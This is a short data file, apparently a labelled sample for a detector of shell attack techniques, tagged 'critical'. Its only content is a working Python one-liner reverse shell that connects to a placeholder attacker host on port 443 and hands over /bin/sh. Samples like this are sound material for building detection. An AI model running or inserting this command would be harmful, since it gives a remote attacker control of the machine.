# SPDX-License-Identifier: MIT
# technique: python -c one-liner reverse shell
# level: critical
# quick: no
t0
python3 -c "import socket,os,pty;s=socket.create_connection(('$ATK',443));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn('/bin/sh')"
